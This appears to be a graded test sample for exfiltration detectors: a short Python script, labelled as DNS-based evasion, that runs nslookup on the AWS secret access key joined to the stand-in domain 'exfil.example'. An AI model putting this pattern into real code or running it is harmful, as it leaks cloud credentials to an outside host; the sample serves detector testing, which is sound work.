# evasion: a secret sent out as a DNS name by an nslookup child, not by socket.gethostbyname
# grade: medium; does: exfil
import os, subprocess
subprocess.run(["nslookup", os.environ["AWS_SECRET_ACCESS_KEY"] + ".exfil.example"])
